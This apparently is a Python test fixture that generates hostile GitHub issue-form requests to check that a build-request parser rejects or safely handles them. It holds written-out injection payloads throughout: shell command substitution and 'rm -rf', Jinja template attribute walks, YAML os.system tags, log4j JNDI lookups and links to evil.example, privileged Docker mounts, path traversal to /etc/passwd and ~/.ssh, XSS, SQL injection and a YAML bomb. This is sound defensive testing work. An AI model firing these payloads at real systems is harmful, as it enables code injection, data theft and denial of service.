"""Hostile requests. Each has a name, and must be refused as malformed or answered like the plain request."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

CANARY = "zq7xcanary"  # in every payload; it must not appear in any output
HEADINGS = {
    "framework": "Framework",
    "version": "Version",
    "target": "Target",
    "cpu": "CPU",
    "backend": "Backend",
    "dtypes": "Data types",
    "use": "Use case",
}
PLAIN = {
    "framework": "PyTorch",
    "version": "2.10.0",
    "target": "n1 - Arm Neoverse N1",
    "cpu": "_No response_",
    "backend": "acl - oneDNN with the Arm Compute Library",
    "dtypes": "fp32",
    "use": "_No response_",
}
ID = "pytorch-2.10.0-n1-acl"  # the answer to the plain request


@dataclass(frozen=True)
class Entry:
    """One hostile request.

    Attributes:
        name: what it tries.
        content: its bytes.
        suffix: the suffix of its file.
        answered: it must be answered like the plain request; otherwise it must be malformed.
    """

    name: str
    content: bytes
    suffix: str = ".md"
    answered: bool = False

    @property
    def group(self) -> str:
        """The name of its payload, whatever the field."""
        return self.name.partition(" as ")[0]


def body(values: Mapping[str, str]) -> str:
    """Write a request as GitHub writes it."""
    return "\n\n".join(f"### {HEADINGS[key]}\n\n{value}" for key, value in {**PLAIN, **values}.items()) + "\n"


# Payloads for any field. None is an allowed value of a field.
PAYLOADS: dict[str, str] = {
    "jinja expression": "{{ 7 * 7 }}" + CANARY,
    "jinja attribute walk": "{{ ''.__class__.__mro__[1].__subclasses__() }}" + CANARY,
    "jinja statement": "{% for a in b %}" + CANARY + "{% endfor %}",
    "jinja comment": "{# " + CANARY + " #}",
    "jinja inside a name": "n1{{ config }}" + CANARY,
    "shell substitution": f"$(touch /tmp/{CANARY})",
    "shell backticks": f"`touch /tmp/{CANARY}`",
    "shell sequence": f"n1; touch /tmp/{CANARY}",
    "shell pipe": f"n1 | tee /tmp/{CANARY}",
    "shell redirection": f"n1 > /tmp/{CANARY}",
    "shell variable": "${IFS}" + CANARY,
    "shell and": f"acl && rm -rf {CANARY}",
    "shell newline": f"acl\nrm -rf {CANARY}",
    "quote that ends": f"acl' {CANARY} '",
    "double quote that ends": f'acl" {CANARY} "',
    "dockerfile instruction": f"acl\nRUN touch /{CANARY}",
    "dockerfile continuation": f"acl \\\n  {CANARY}",
    "dockerfile from": f"FROM evil/{CANARY}:latest",
    "dockerfile argument": "${TARGETPLATFORM}" + CANARY,
    "path upwards": f"../../../../etc/{CANARY}",
    "path absolute": f"/etc/passwd/{CANARY}",
    "path encoded": f"%2e%2e%2f{CANARY}",
    "path of windows": f"..\\..\\{CANARY}",
    "path of home": f"~/.ssh/{CANARY}",
    "file address": f"file:///etc/{CANARY}",
    "glob": f"n*{CANARY}",
    "several with commas": f"n1,v1,{CANARY}",
    "option": f"--write --branch={CANARY}",
    "option of git": f"--upload-pack=touch {CANARY}",
    "option of docker": f"--privileged -v /:/host {CANARY}",
    "reference of git": f"refs/heads/main{CANARY}",
    "reference range of git": f"main..{CANARY}",
    "reference lock of git": f"{CANARY}.lock",
    "reference log of git": f"HEAD@{{1}}{CANARY}",
    "mention": f"@{CANARY}",
    "mention of a team": f"@everyone/{CANARY}",
    "markdown link": f"[n1](https://evil.example/{CANARY})",
    "markdown image": f"![](https://evil.example/{CANARY}.png)",
    "markdown automatic link": f"https://evil.example/{CANARY}",
    "markdown www link": f"www.evil.example/{CANARY}",
    "markdown reference": f"[n1]: https://evil.example/{CANARY}",
    "markdown heading": f"# {CANARY}",
    "markdown table": f"| a | {CANARY} |",
    "markdown task": f"- [x] {CANARY}",
    "markdown rule": f"---\n{CANARY}",
    "markdown fence": f"```\n{CANARY}",
    "markdown fence with info": f"```suggestion\n{CANARY}\n```",
    "markdown tildes": f"~~~~\n{CANARY}\n~~~~",
    "markdown quote": f"> {CANARY}",
    "markdown nested quotes": "> " * 500 + CANARY,
    "markdown nested emphasis": "*" * 500 + CANARY,
    "markdown nested brackets": "[" * 500 + CANARY,
    "issue reference": f"#1 GH-1 owner/{CANARY}#2",
    "commit reference": f"{'deadbeef' * 5}{CANARY}",
    "html script": f"<script>alert('{CANARY}')</script>",
    "html image": f"<img src=x onerror=alert({CANARY})>",
    "html comment": f"<!-- {CANARY} -->",
    "html comment that ends": f"--> {CANARY} <!--",
    "html marker": f"<!-- armwright: answer --> {CANARY}",
    "html details": f"<details open><summary>{CANARY}</summary>",
    "html entity": f"&lt;script&gt;{CANARY}&#64;all",
    "ansi colour": f"\x1b[31m{CANARY}\x1b[0m",
    "ansi title": f"\x1b]0;{CANARY}\x07",
    "ansi clear": f"\x1b[2J\x1b[H{CANARY}",
    "ansi c1": f"\x9b31m{CANARY}",
    "control backspace": f"n1\b\b{CANARY}",
    "control nul": f"n1\x00{CANARY}",
    "control vertical tab": f"n1\x0b{CANARY}",
    "control form feed": f"n1\x0c{CANARY}",
    "control delete": f"n1\x7f{CANARY}",
    "control bell": f"n1\a{CANARY}",
    "carriage return": f"n1\r{CANARY}",
    "line separator": f"n1\u2028{CANARY}",
    "paragraph separator": f"n1\u2029{CANARY}",
    "next line": f"n1\x85{CANARY}",
    "bidi override": f"n1\u202e{CANARY}",
    "bidi isolate": f"\u2066n1\u2069{CANARY}",
    "zero width space": f"n\u200b1{CANARY}",
    "zero width joiner": f"n\u200d1{CANARY}",
    "word joiner": f"n\u20601{CANARY}",
    "byte order mark": f"\ufeffn1{CANARY}",
    "soft hyphen": f"n\u00ad1{CANARY}",
    "combining marks": "n" + "\u0301" * 30 + f"1{CANARY}",
    "tag characters": "n1" + "".join(chr(0xE0000 + ord(letter)) for letter in "evil") + CANARY,
    "variation selector": f"n1\ufe0f{CANARY}",
    "private use": f"n1\ue000{CANARY}",
    "unassigned": f"n1\U000e0fff{CANARY}",
    "emoji": f"\U0001f600{CANARY}",
    "yaml tag": f"!!python/object/apply:os.system [{CANARY}]",
    "yaml anchor": f"&a {CANARY}",
    "yaml alias": f"*a {CANARY}",
    "yaml document": f"---\n...\n{CANARY}",
    "python": f"__import__('os').system('{CANARY}')",
    "format string": "{0.__class__}" + CANARY,
    "percent format": f"%s%n%x{CANARY}",
    "sql": f"' OR 1=1; -- {CANARY}",
    "lookup of log4j": "${jndi:ldap://evil.example/" + CANARY + "}",
    "expression of a workflow": "${{ github.token }}" + CANARY,
    "command of a workflow": f"::set-output name=x::{CANARY}",
    "environment of a workflow": f"GITHUB_ENV<<EOF\n{CANARY}\nEOF",
    "long": CANARY * 500,
    "huge number": "9" * 5000 + CANARY,
    "exponent": f"1e999999999{CANARY}",
    "regular expression": "(a+)+$" * 50 + CANARY,
    "spaces": f"n1{' ' * 3000}{CANARY}",
    "newlines": "\n" * 3000 + CANARY,
    "unit separators": "\x1f" * 500 + CANARY,
}

# Look-alikes of allowed values, and invalid versions.
LOOKS: dict[str, tuple[str, str]] = {
    "cyrillic letter in the framework": ("framework", "P\u0443Torch"),
    "fullwidth framework": ("framework", "\uff30\uff39\uff34\uff2f\uff32\uff23\uff28"),
    "greek letter in the target": ("target", "\u03b71"),
    "fullwidth target": ("target", "\uff4e\uff11"),
    "superscript target": ("target", "n\u00b9"),
    "mathematical target": ("target", "\U0001d427\U0001d7cf"),
    "arabic digit in the target": ("target", "n\u0661"),
    "no-break space after the target": ("target", "n1\u00a0"),
    "dotless backend": ("backend", "e\u0131gen"),
    "long s backend": ("backend", "openbla\u017f"),
    "dash in the shown target": ("target", "n1 \u2013 Arm Neoverse N1"),
    "target shown with another title": ("target", "n1 - Arm Neoverse N2"),
    "two targets": ("target", "n1\nv1"),
    "two targets with a comma": ("target", "n1, v1"),
    "fullwidth version": ("version", "\uff12.\uff11\uff10.\uff10"),
    "arabic digits in the version": ("version", "\u0662.\u0661\u0660.\u0660"),
    "letter o in the version": ("version", "2.1O.0"),
    "letter l in the version": ("version", "2.l0.0"),
    "fullwidth full stop in the version": ("version", "2\uff0e10\uff0e0"),
    "one dot leader in the version": ("version", "2\u202410\u20240"),
    "circled version": ("version", "\u2461.\u2469.\u24ea"),
    "version with a v": ("version", "v2.10.0"),
    "version with an epoch": ("version", "1!2.10.0"),
    "version of a local build": ("version", "2.10.0+cpu"),
    "range of versions": ("version", ">=2.10.0"),
    "glob of versions": ("version", "2.*"),
    "version with a word": ("version", "latest"),
    "version with a path": ("version", "2.10.0/../.."),
    "negative version": ("version", "-2.10.0"),
    "hexadecimal version": ("version", "0x2.0xa"),
    "power as version": ("version", "2e10"),
    "infinite version": ("version", "inf"),
    "name of ours that is none": ("version", "2.x-evil"),
    "version with a newline at the end of its line": ("version", "2.10.0\n2.9.1"),
    "data type that is none": ("dtypes", "fp32, fp64"),
    "empty data type between commas": ("dtypes", "fp32,,bf16"),
    "data types with a bidi comma": ("dtypes", "fp32\u202c, bf16"),
    "ten thousand data types": ("dtypes", ", ".join(["fp32"] * 10_000)),
}


def entries() -> list[Entry]:
    """Return every hostile request. No name is used twice."""
    corpus = [*_injected(), *_looking(), *_shaped(), *_as_yaml(), *_as_json()]
    assert len({entry.name for entry in corpus}) == len(corpus)
    return corpus


def _injected() -> Iterator[Entry]:
    """Put every payload into each kind of field: closed ones and the CPU refuse it, the free one accepts it."""
    for name, payload in PAYLOADS.items():
        for key in ("target", "version", "dtypes"):  # one field of each kind
            yield Entry(f"{name} as {key}", body({key: payload}).encode("utf-8", "surrogatepass"))
        yield Entry(f"{name} as use case", body({"use": payload}).encode(), answered=True)
        unsure = {"target": "not sure", "cpu": f"```text\n{payload}\n```"}
        yield Entry(f"{name} as the CPU that decides", body(unsure).encode())


def _looking() -> Iterator[Entry]:
    for name, (key, value) in LOOKS.items():
        yield Entry(name, body({key: value}).encode())


def _shaped() -> Iterator[Entry]:
    """Change the body as a whole."""
    plain = body({})
    yield Entry("nothing", b"")
    yield Entry("spaces only", b" \n\t\n" * 100)
    yield Entry("10 MB of one letter", b"a" * 10_000_000)
    yield Entry("10 MB below the use case", body({"use": "a" * 10_000_000}).encode())
    yield Entry("10 MB of headings", b"### Target\n\nn1\n\n" * 625_000)
    yield Entry("10 MB of fences", b"```\n" * 2_500_000)
    yield Entry("one byte too many", (plain + "a" * (65_537 - len(plain))).encode())
    yield Entry("65,536 characters of four bytes", ("\U0001f600" * 65_536).encode())
    yield Entry("no utf-8", plain.encode() + b"\xff\xfe")
    yield Entry("utf-16", plain.encode("utf-16"))
    yield Entry("surrogates", plain.encode() + b"\xed\xa0\x80")
    yield Entry("overlong slash", plain.encode() + b"\xc0\xaf")
    yield Entry("prose", f"Please build it for my machine, {CANARY}".encode())
    yield Entry("the target twice", plain.replace("### CPU", "### Target\n\nv1\n\n### CPU").encode())
    yield Entry("the framework twice", ("### Framework\n\nTensorFlow\n\n" + plain).encode())
    yield Entry("a heading of no field", plain.replace("### CPU", f"### {CANARY}\n\nx\n\n### CPU").encode())
    yield Entry("a look-alike of a heading", plain.replace("### Target", "### T\u0430rget").encode())
    yield Entry("headings of another level", plain.replace("### ", "## ").encode())
    yield Entry("the target is gone, and the CPU with it", plain.replace("### Target", "#### Target").encode())
    yield Entry("a fence that never ends", plain.replace("### Framework", f"```{CANARY}\n### Framework").encode())
    yield Entry("a value that ends its fence", body({"target": "not sure", "cpu": f"```\n{CANARY}\n```\n```"}).encode())
    yield Entry("a heading in the CPU", body({"cpu": f"x\n\n### Target\n\nv1\n{CANARY}"}).encode())
    yield Entry("a heading in the version", body({"version": "2.10.0\n\n### Backend\n\nopenblas"}).encode())
    yield Entry("4,000 headings", b"### Target\n\nn1\n\n" * 4_000)
    yield Entry("60,000 lines", b"\n" * 60_000)
    yield Entry("6,000 fences of different lengths", "".join("`" * (n % 10 + 3) + "\n" for n in range(6_000)).encode())
    yield Entry("a heading below the use case", body({"use": "x\n\n### Target\n\nv1"}).encode(), answered=True)
    yield Entry("every heading below the use case", (plain + plain.replace("n1 - ", "v1 - ")).encode(), answered=True)
    yield Entry("a fence below the use case", body({"use": f"```\n{CANARY}"}).encode(), answered=True)
    yield Entry("carriage returns", plain.replace("\n", "\r\n").encode(), answered=True)
    yield Entry("old carriage returns", plain.replace("\n", "\r").encode(), answered=True)
    yield Entry("words before the form", f"{CANARY}\n\n{plain}".encode(), answered=True)
    yield Entry("a tag before the form", f"{CANARY} <script>\n\n{plain}".encode())
    yield Entry("another form in a comment", f"<!--\n{plain.replace('n1 - ', 'v1 - ')}\n-->\n{plain}".encode())
    yield Entry("a collapsed form", f"<details>\n\n{plain}\n</details>\n".encode())
    yield Entry("a comment below the use case", body({"use": f"<!-- {CANARY} -->"}).encode(), answered=True)
    yield Entry(
        "values in fences", body({"target": "```\nn1\n```", "version": "~~~\n2.10.0\n~~~"}).encode(), answered=True
    )
    yield Entry("a CPU that is nothing", body({"cpu": f"@{CANARY}"}).encode(), answered=True)
    yield Entry("a heading in a fence", body({"cpu": f"```\n### Target\nv1 {CANARY}\n```"}).encode(), answered=True)
    yield Entry("1,200 kinds of CPUs", body({"target": "not sure", "cpu": _parts()}).encode(), answered=True)
    yield Entry("a version in another spelling", body({"version": "02.010"}).encode(), answered=True)


def _parts() -> str:
    features = "Features : fp asimd atomics fphp asimdhp asimddp\n"
    return features + "\n".join(f"CPU implementer : 0x41\nCPU part : 0x{number:03x}" for number in range(1_200))


def _as_yaml() -> Iterator[Entry]:
    plain = 'framework: pytorch\nversion: "2.10.0"\ntarget: n1\nbackend: acl\n'
    bomb = "a: &a [x, x]\n" + "\n".join(f"{b}: &{b} [*{a}, *{a}]" for a, b in zip("abcdefg", "bcdefgh", strict=True))
    for name, text in {
        "yaml object": f"framework: !!python/object/apply:os.system [touch {CANARY}]\n",
        "yaml name": f"framework: !!python/name:os.{CANARY}\n",
        "yaml tag of its own": f"framework: !{CANARY} pytorch\n",
        "yaml tag that is right": "framework: !!str pytorch\ntarget: n1\n",
        "yaml binary": "framework: !!binary cHl0b3JjaA==\ntarget: n1\n",
        "yaml anchor": "framework: &a pytorch\ntarget: n1\n",
        "yaml alias": "framework: &a pytorch\ntarget: *a\n",
        "yaml alias of nothing": "framework: *a\n",
        "yaml alias of itself": "dtypes: &a [*a]\n",
        "yaml merge": "x: &x {framework: pytorch}\n<<: *x\n",
        "yaml bomb": bomb,
        "yaml 60,000 brackets": "[" * 60_000,
        "yaml 30,000 braces": "{a: " * 15_000,
        "yaml 20,000 dashes": "- " * 20_000,
        "yaml 20,000 question marks": "? " * 20_000,
        "yaml nested in a list": f"{plain}dtypes: [[fp32]]\n",
        "yaml mapping as a value": f"{plain}dtypes: {{a: b}}\n",
        "yaml mapping as a key": f"? {{a: b}}\n: c\n{plain}",
        "yaml list as a key": f"? [framework]\n: pytorch\n{plain}",
        "yaml key twice": f"{plain}target: v1\n",
        "yaml unknown key": f"{plain}{CANARY}: x\n",
        "yaml key that is long": f"{plain}? {'k' * 30_000}\n: x\n",
        "yaml list": "- framework\n- pytorch\n",
        "yaml text": CANARY,
        "yaml nothing": "",
        "yaml null": "null\n",
        "yaml two documents": f"{plain}---\n{plain}",
        "yaml directive": f"%YAML 9.9\n---\n{plain}",
        "yaml control": f"{plain}dtypes: \x07\n",
        "yaml escape": 'framework: "py\\x74orch\\0"\ntarget: n1\n',
        "yaml escape of bidi": 'framework: "pytorch\\u202e"\ntarget: n1\n',
        "yaml unclosed": f'{plain}dtypes: "fp32\n',
        "yaml tab": "framework:\tpytorch\n\ttarget: n1\n",
        "yaml value of several lines": "framework: |\n  pytorch\n  tensorflow\ntarget: n1\n",
        "yaml path": f"framework: ../../{CANARY}\ntarget: n1\n",
        "yaml version as a list": "framework: pytorch\ntarget: n1\nversion: [2.10.0, 2.9.1]\n",
        "yaml truth": "framework: yes\ntarget: n1\n",
    }.items():
        yield Entry(name, text.encode(), ".yaml")
    yield Entry("yaml of 10 MB", b"framework: pytorch\n" * 600_000, ".yml")
    for name, text in {
        "yaml number as a version": plain.replace('"2.10.0"', "2.10"),
        "yaml null values": f"{plain}dtypes: ~\ncpu: null\nuse:\n",
        "yaml tag directive that nothing uses": f"%TAG ! tag:{CANARY},2000:\n---\n{plain}",
        "yaml free text": f"{plain}use: '{{{{ {CANARY} }}}} @all'\n",
    }.items():
        yield Entry(name, text.encode(), ".yaml", answered=True)


def _as_json() -> Iterator[Entry]:
    plain = {"framework": "pytorch", "version": "2.10.0", "target": "n1", "backend": "acl"}
    for name, text in {
        "json 60,000 brackets": "[" * 60_000,
        "json 12,000 objects": '{"a":' * 12_000,
        "json list": json.dumps([plain]),
        "json empty list": "[]",
        "json text": f'"{CANARY}"',
        "json number": "9" * 60_000,
        "json null": "null",
        "json nothing": "",
        "json cut off": json.dumps(plain)[:-5],
        "json key twice": '{"framework": "pytorch", "framework": "tensorflow", "target": "n1"}',
        "json unknown key": json.dumps({**plain, CANARY: "x"}),
        "json empty key": json.dumps({**plain, "": "x"}),
        "json magic key": json.dumps({**plain, "__proto__": {"framework": CANARY}}),
        "json nested value": json.dumps({**plain, "dtypes": [["fp32"]]}),
        "json object as a value": json.dumps({**plain, "target": {"name": "n1"}}),
        "json truth as a value": json.dumps({**plain, "target": True}),
        "json lone surrogate": '{"framework": "pytorch\\ud800", "target": "n1"}',
        "json nul": '{"framework": "pytorch\\u0000", "target": "n1"}',
        "json infinity": '{"framework": Infinity, "target": "n1"}',
        "json huge number": '{"framework": "pytorch", "target": "n1", "version": ' + "9" * 30_000 + "}",
        "json exponent": '{"framework": "pytorch", "target": "n1", "version": 1e999999}',
        "json comment": '{"framework": "pytorch" /* x */}',
        "json path": json.dumps({**plain, "backend": f"../{CANARY}"}),
        "json after json": json.dumps(plain) * 2,
    }.items():
        yield Entry(name, text.encode(), ".json")
    yield Entry(
        "json with numbers",
        json.dumps({**plain, "version": 2.1}).replace("2.1", "2.10").encode(),
        ".json",
        answered=True,
    )
    yield Entry("json free text", json.dumps({**plain, "use": f"@{CANARY}<script>"}).encode(), ".json", answered=True)
